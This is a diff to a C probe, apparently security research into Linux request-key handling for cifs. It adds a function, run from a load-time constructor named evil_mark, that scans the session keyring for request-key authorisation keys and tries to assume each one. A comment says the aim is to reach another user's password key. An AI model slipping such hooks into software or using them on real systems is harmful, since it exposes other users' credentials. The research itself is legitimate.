@@ -14,13 +14,52 @@
 #include <fcntl.h>
 #include <libgen.h>
 #include <limits.h>
+#include <stdint.h>
 #include <stdio.h>
 #include <string.h>
 #include <sys/syscall.h>
 #include <unistd.h>
 
 #define KEYCTL_DESCRIBE 6
+#define KEYCTL_READ 11
+#define KEYCTL_ASSUME_AUTHORITY 16
+#define KEY_SPEC_SESSION_KEYRING (-3)
 #define KEY_SPEC_REQKEY_AUTH_KEY (-7)
+
+/*
+ * Could we take a request-key authority back?  An authorisation key we
+ * possess (request-key links it into the helper's session keyring) may
+ * be assumed by anyone holding it: with one, the keys of cifs's
+ * .cifs_spnego keyring are searched as their possessor, another user's
+ * password key during her leg 1 among them.  Returns how many we took.
+ */
+static int reassume_any(FILE *out)
+{
+	int32_t ids[256];
+	char desc[256];
+	long n, i, r;
+	int took = 0;
+
+	n = syscall(SYS_keyctl, KEYCTL_READ, KEY_SPEC_SESSION_KEYRING, ids,
+		    sizeof(ids));
+	if (n < 0)
+		return 0;
+	if (n > (long)sizeof(ids))
+		n = sizeof(ids);
+	for (i = 0; i < n / (long)sizeof(ids[0]); i++) {
+		r = syscall(SYS_keyctl, KEYCTL_DESCRIBE, ids[i], desc,
+			    sizeof(desc) - 1);
+		if (r < 0)
+			continue;
+		desc[r < (long)sizeof(desc) ? r : (long)sizeof(desc) - 1] = 0;
+		if (strncmp(desc, ".request_key_auth;", 18))
+			continue;
+		r = syscall(SYS_keyctl, KEYCTL_ASSUME_AUTHORITY, ids[i]);
+		fprintf(out, "reassumed %d %s\n", ids[i], r >= 0 ? "yes" : "no");
+		took += r >= 0;
+	}
+	return took;
+}
 
 /* the Uid:, CapEff: and NoNewPrivs: lines of our own status */
 static void status_lines(FILE *out)
@@ -72,6 +111,8 @@ __attribute__((constructor)) static void evil_mark(void)
 	fprintf(out, "pid %d comm %s uid %d euid %d reqkey-authority %s\n",
 		(int)getpid(), comm, (int)getuid(), (int)geteuid(),
 		r >= 0 ? auth : "none");
+	if (!reassume_any(out))
+		fprintf(out, "reassumed none\n");
 	status_lines(out);
 	fclose(out);
 }
